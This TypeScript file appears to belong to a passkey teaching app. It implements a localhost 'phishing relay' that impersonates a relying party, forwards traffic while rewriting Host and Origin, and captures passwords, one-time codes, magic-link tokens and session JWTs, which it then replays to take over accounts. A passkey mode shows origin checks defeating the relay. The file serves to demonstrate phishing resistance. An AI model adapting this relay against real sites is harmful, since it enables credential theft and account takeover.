/**
 * The phishing relay demo: a look-alike of this app on a second origin (`http://localhost:<other
 * port>`, and `http://127.0.0.1:<that port>` as another host) that relays every request to the real
 * RP — the adversary in the middle a phishing proxy is. The victim's browser sees the same pages and
 * the same sign-in; the relay rewrites only what a proxy must (Host, Origin) and reads what travels:
 * passwords, codes, link tokens, sessions, assertions. Then it uses them against the real RP the way
 * an attacker would, so every outcome is the real RP's answer:
 *
 * - password: the attacker signs in with it itself (a session of its own, as often as it likes);
 * - magic link, e-mail code: the victim's own redeem passes through, and the session the RP answers
 *   stays with the attacker too — the RP's session check accepts it;
 * - passkey: the browser writes the page's origin into clientDataJSON and the authenticator signs it,
 *   so the RP refuses at its origin check; an attacker who writes the real origin in breaks the
 *   signature; on another host the browser refuses before any authenticator is asked (RP ID check).
 *
 * The relay keeps the local server's safety: its own Host check (a rebinding page would otherwise
 * read the RP's token through it) and no Origin but its own.
 */
import { randomUUID } from 'node:crypto';
import { getRequestListener } from '@hono/node-server';
import { Hono, type Context } from 'hono';
import { proxy } from 'hono/proxy';
import type { Session } from '@api/auth.ts';
import { AUTH_ENDPOINTS, ENDPOINTS } from '@api/endpoints.ts';
import type { RelayCapture, RelayLoot, RelayOutcome, RelayPasskeyMode, RelayStatus } from '@api/relay.ts';
import type { RpEvent } from '@api/types.ts';
import { HttpApiError, httpClient } from '../http/client.ts';
import { listenLocal, type LocalServer } from '../http/host.ts';

/** Requests the relay reads are small JSON; anything bigger passes through unread. */
const TAP_LIMIT = 1024 * 1024;
const MAX_CAPTURES = 200;

type Json = Record<string, any>;
interface Tapped {
  request: Json | null;
  status: number;
  answer: Json | null;
  victimOrigin: string | null;
}

const json = (text: string): Json | null => {
  try {
    const v = JSON.parse(text) as unknown;
    return v && typeof v === 'object' && !Array.isArray(v) ? (v as Json) : null;
  } catch {
    return null;
  }
};

const clientDataOf = (response: Json | null | undefined): Json | null => {
  const cd = response?.response?.clientDataJSON;
  return typeof cd === 'string' ? json(Buffer.from(cd, 'base64url').toString('utf8')) : null;
};

export interface RelayOptions {
  /** The real RP's origin: what the relay impersonates and forwards to. */
  target: string;
  /** The RP's per-launch token, for the attacker's own calls (any page the relay serves carries it too). */
  token: string;
  publish?: (e: RpEvent) => void;
  now?: () => number;
  /** The port to listen on (0: a free one). */
  port?: number;
}

export class PhishingRelay {
  private server: LocalServer | null = null;
  private mode: RelayPasskeyMode = 'forward';
  private captures: RelayCapture[] = [];
  private readonly upstream: string;
  private readonly attacker;
  private readonly now: () => number;
  /** Work the relay does after answering (the attacker's own calls), awaited by `settled()`. */
  private readonly inFlight = new Set<Promise<void>>();

  constructor(private readonly opts: RelayOptions) {
    // The RP's own origin: its Host is the real one (fetch sets it from the URL), as a proxy's upstream request has.
    this.upstream = opts.target;
    this.now = opts.now ?? Date.now;
    // The attacker's own calls go straight to the RP, as from any machine: no Origin, the page's token.
    this.attacker = {
      auth: httpClient(AUTH_ENDPOINTS, this.upstream, { token: opts.token }),
    };
  }

  get origins(): string[] {
    const port = this.server?.port;
    return port ? [`http://localhost:${port}`, `http://127.0.0.1:${port}`] : [];
  }

  status(): RelayStatus {
    return {
      running: this.server !== null,
      target: this.opts.target,
      origins: this.origins,
      passkeyMode: this.mode,
      captures: this.captures.map((c) => structuredClone(c)),
    };
  }

  /** Starts the look-alike (a new run forgets the last one's captures), or changes its passkey mode. */
  async start(mode: RelayPasskeyMode = this.mode): Promise<RelayStatus> {
    this.mode = mode;
    if (!this.server) {
      this.captures = [];
      await this.listen();
    }
    this.changed();
    return this.status();
  }

  async stop(): Promise<RelayStatus> {
    const server = this.server;
    this.server = null;
    if (server) {
      await server.close();
      this.changed();
    }
    return this.status();
  }

  /** Resolves once the attacker's calls for everything relayed so far have their outcome. */
  async settled(): Promise<void> {
    while (this.inFlight.size) await Promise.all([...this.inFlight]);
  }

  private changed(): void {
    this.opts.publish?.({ type: 'relay' });
  }

  private async listen(): Promise<void> {
    const app = new Hono();
    app.all('*', (c) => this.relay(c));
    app.onError((e) =>
      Response.json(
        { error: 'relay_failed', message: `The look-alike could not reach the real RP: ${e instanceof Error ? e.message : String(e)}` },
        { status: 502 },
      ),
    );
    const listener = getRequestListener(app.fetch);
    this.server = await listenLocal((req, res) => void listener(req, res), { port: this.opts.port });
  }

  /** Passes one request on to the real RP, reading the ones worth reading. */
  private async relay(c: Context): Promise<Response> {
    const url = new URL(c.req.url);
    const victimOrigin = c.req.header('origin') ?? null;
    if (victimOrigin !== null && !this.origins.includes(victimOrigin)) {
      return Response.json(
        { error: 'origin_forbidden', message: `The look-alike relays its own pages only, not requests from "${victimOrigin}".` },
        { status: 403 },
      );
    }
    const route = `${c.req.method} ${url.pathname}`;
    const tapped = TAPS.has(route);
    let body: string | undefined;
    let request: Json | null = null;
    if (tapped) {
      if (Number(c.req.header('content-length') ?? 0) > TAP_LIMIT) {
        return Response.json({ error: 'payload_too_large', message: 'Too big for the look-alike.' }, { status: 413 });
      }
      body = await c.req.text();
      request = json(body);
      if (route === `POST ${ENDPOINTS.authenticationVerify.path}` && request?.response && this.mode === 'rewrite-origin') {
        body = JSON.stringify(this.rewriteOrigin(request));
      }
    }
    const res = await proxy(`${this.upstream}${url.pathname}${url.search}`, {
      ...(tapped ? { method: c.req.method, body } : { raw: c.req.raw }),
      // The RP's own answers, redirects included, go back to the victim as they are.
      redirect: 'manual',
      headers: {
        ...c.req.header(),
        host: undefined,
        // What a phishing proxy must do for the RP to take the requests: claim the RP's own origin.
        origin: victimOrigin === null ? undefined : this.opts.target,
        referer: undefined,
        'content-length': undefined,
      },
    });
    if (tapped) {
      const answer = json(await res.clone().text());
      this.track(this.read(route, { request, status: res.status, answer, victimOrigin }));
    }
    return res;
  }

  /** The victim's assertion with the real origin written into clientDataJSON (the authenticator signed the other). */
  private rewriteOrigin(request: Json): Json {
    const cd = clientDataOf(request.response);
    if (!cd) return request;
    const rewritten = { ...cd, origin: this.opts.target };
    return {
      ...request,
      response: {
        ...request.response,
        response: { ...request.response.response, clientDataJSON: Buffer.from(JSON.stringify(rewritten)).toString('base64url') },
      },
    };
  }

  private track(work: Promise<void>): void {
    const p = work
      .catch(() => undefined)
      .finally(() => {
        this.inFlight.delete(p);
        this.changed();
      });
    this.inFlight.add(p);
  }

  private capture(c: Omit<RelayCapture, 'id' | 'at'>): RelayCapture {
    const full: RelayCapture = { id: randomUUID(), at: new Date(this.now()).toISOString(), ...c };
    this.captures.unshift(full);
    this.captures.length = Math.min(this.captures.length, MAX_CAPTURES);
    return full;
  }

  private pending(method: RelayCapture['method'], email: string | null): RelayCapture | undefined {
    return this.captures.find((c) => c.method === method && c.outcome.kind === 'pending' && (email === null || c.email === email));
  }

  /** What one relayed exchange gave the attacker, and what it does with it. */
  private async read(route: string, t: Tapped): Promise<void> {
    const { request: q, answer: a, victimOrigin } = t;
    const email = typeof q?.email === 'string' ? q.email.trim().toLowerCase() : null;
    const session = a?.session && typeof a.session.jwt === 'string' ? (a.session as Session) : null;
    switch (route) {
      case `POST ${AUTH_ENDPOINTS.passwordSignIn.path}`:
      case `POST ${AUTH_ENDPOINTS.signUp.path}`:
      case `POST ${AUTH_ENDPOINTS.changePassword.path}`: {
        if (!email || typeof q?.password !== 'string') return;
        const got: RelayLoot[] = [
          { kind: 'email', value: email },
          { kind: 'password', value: q.password },
        ];
        if (typeof q.newPassword === 'string') got.push({ kind: 'new-password', value: q.newPassword });
        if (session) got.push({ kind: 'session', value: session.jwt });
        const c = this.capture({ method: 'password', email, victimOrigin, got, outcome: { kind: 'pending', waitingFor: 'response' } });
        // The password is the attacker's now: it signs in by itself, from its own machine.
        const password = typeof q.newPassword === 'string' && t.status < 300 ? q.newPassword : q.password;
        c.outcome = await this.ownSignIn(email, password);
        return;
      }
      case `POST ${AUTH_ENDPOINTS.sendMagicLink.path}`:
      case `POST ${AUTH_ENDPOINTS.sendOtp.path}`: {
        if (!email || t.status >= 300) return;
        const method = route.endsWith('/otp') ? 'email-otp' : 'magic-link';
        if (this.pending(method, email)) return;
        this.capture({
          method,
          email,
          victimOrigin,
          got: [{ kind: 'email', value: email }],
          outcome: { kind: 'pending', waitingFor: method === 'email-otp' ? 'code' : 'link' },
        });
        return;
      }
      case `POST ${AUTH_ENDPOINTS.redeemMagicLink.path}`: {
        if (typeof q?.token !== 'string') return;
        const owner = session?.claims.email ?? null;
        const c =
          this.pending('magic-link', owner) ??
          this.capture({ method: 'magic-link', email: owner, victimOrigin, got: [], outcome: { kind: 'pending', waitingFor: 'link' } });
        c.got.push({ kind: 'link-token', value: q.token, note: 'the link from the e-mail, pasted into the look-alike' });
        if (session) c.got.push({ kind: 'session', value: session.jwt });
        c.outcome = session ? await this.sessionHeld(session) : refusedBy(t);
        return;
      }
      case `POST ${AUTH_ENDPOINTS.verifyOtp.path}`: {
        if (!email || typeof q?.code !== 'string') return;
        const c =
          this.pending('email-otp', email) ??
          this.capture({
            method: 'email-otp',
            email,
            victimOrigin,
            got: [{ kind: 'email', value: email }],
            outcome: { kind: 'pending', waitingFor: 'code' },
          });
        c.got.push({ kind: 'code', value: q.code });
        if (session) {
          c.got.push({ kind: 'session', value: session.jwt });
          c.outcome = await this.sessionHeld(session);
        } else if (a?.error !== 'code_wrong') c.outcome = refusedBy(t);
        return;
      }
      case `POST ${ENDPOINTS.authenticationOptions.path}`: {
        if (t.status >= 300 || typeof a?.ceremonyId !== 'string') return;
        const name = q?.config?.userName;
        this.capture({
          method: 'passkey',
          email: typeof name === 'string' ? name : null,
          victimOrigin,
          ceremonyId: a.ceremonyId,
          passkeyMode: this.mode,
          got: [
            {
              kind: 'challenge',
              value: String(a.options?.challenge ?? ''),
              note: `rpId ${String(a.options?.rpId ?? '(none)')}`,
              ...(typeof a.options?.rpId === 'string' ? { rpId: a.options.rpId } : {}),
            },
          ],
          outcome: { kind: 'pending', waitingFor: 'response' },
        });
        return;
      }
      case `POST ${ENDPOINTS.authenticationVerify.path}`: {
        const c = this.captures.find((x) => x.method === 'passkey' && x.ceremonyId === q?.ceremonyId);
        if (!c) return;
        c.passkeyMode = this.mode;
        if (q?.clientError) {
          const name = String(q.clientError.name);
          c.got.push({ kind: 'client-error', value: name, note: String(q.clientError.message ?? '') });
          c.outcome = {
            kind: 'refused',
            by: 'browser',
            check: name === 'SecurityError' ? 'rpId' : name,
            message:
              name === 'SecurityError'
                ? `The victim's browser refused (SecurityError) before any authenticator was asked: a page on ${String(victimOrigin)} cannot use the real RP's ID.`
                : `The victim's browser answered ${name}: no assertion reached the relay.`,
          };
          return;
        }
        const origin = clientDataOf(q?.response)?.origin;
        const rewritten = this.mode === 'rewrite-origin';
        c.got.push({
          kind: 'assertion',
          value: String(q?.response?.id ?? ''),
          note: rewritten
            ? `signed for origin ${String(origin)}; the relay wrote ${this.opts.target} into clientDataJSON`
            : `clientDataJSON.origin ${String(origin)}`,
          origin: String(origin),
          ...(rewritten ? { rewrittenTo: this.opts.target } : {}),
        });
        if (a?.verdict === 'verified') {
          const r = await this.attacker.auth.passkeySession(c.ceremonyId!).catch(() => null);
          c.outcome = r ? await this.sessionHeld(r.session) : refusedBy(t);
        } else c.outcome = refusedBy(t);
        return;
      }
      case `POST ${AUTH_ENDPOINTS.passkeySession.path}`:
        return;
    }
  }

  /** The attacker's own sign-in with a password it read. */
  private async ownSignIn(email: string, password: string): Promise<RelayOutcome> {
    try {
      const { session } = await this.attacker.auth.passwordSignIn({ email, password });
      return {
        kind: 'takeover',
        via: 'own-sign-in',
        jti: session.claims.jti,
        evidence: `The attacker signed in as ${email} with the relayed password, from its own side: the RP issued session ${session.claims.jti}.`,
      };
    } catch (e) {
      return refusedByError(e);
    }
  }

  /** A session the relay passed on and kept: the RP's own check says whether it holds. */
  private async sessionHeld(session: Session): Promise<RelayOutcome> {
    try {
      const r = await this.attacker.auth.checkSession(session.jwt);
      if (!r.valid) return { kind: 'refused', by: 'rp', check: 'session', message: r.reason };
      return {
        kind: 'takeover',
        via: 'relayed-session',
        jti: session.claims.jti,
        evidence: `The relay kept the session the RP issued to ${session.claims.email} (${session.claims.jti}); the RP's session check accepts it from the attacker.`,
      };
    } catch (e) {
      return refusedByError(e);
    }
  }
}

/** The routes whose bodies the relay reads (all POST). */
const TAPS = new Set(
  [
    AUTH_ENDPOINTS.passwordSignIn,
    AUTH_ENDPOINTS.signUp,
    AUTH_ENDPOINTS.changePassword,
    AUTH_ENDPOINTS.sendMagicLink,
    AUTH_ENDPOINTS.redeemMagicLink,
    AUTH_ENDPOINTS.sendOtp,
    AUTH_ENDPOINTS.verifyOtp,
    AUTH_ENDPOINTS.passkeySession,
    ENDPOINTS.authenticationOptions,
    ENDPOINTS.authenticationVerify,
  ].map((e) => `${e.method} ${e.path}`),
);

/** The RP's refusal of a relayed request: its failing step, or its error code. */
function refusedBy(t: Tapped): RelayOutcome {
  const a = t.answer ?? {};
  const step = a.step ?? a.ceremony?.error?.step;
  return {
    kind: 'refused',
    by: 'rp',
    check: String(step ?? a.error ?? `http_${t.status}`),
    message: String(a.message ?? a.ceremony?.error?.message ?? `HTTP ${t.status}`),
  };
}

function refusedByError(e: unknown): RelayOutcome {
  if (e instanceof HttpApiError) return { kind: 'refused', by: 'rp', check: e.step ?? e.error, message: e.message };
  return { kind: 'refused', by: 'rp', check: 'unreachable', message: e instanceof Error ? e.message : String(e) };
}
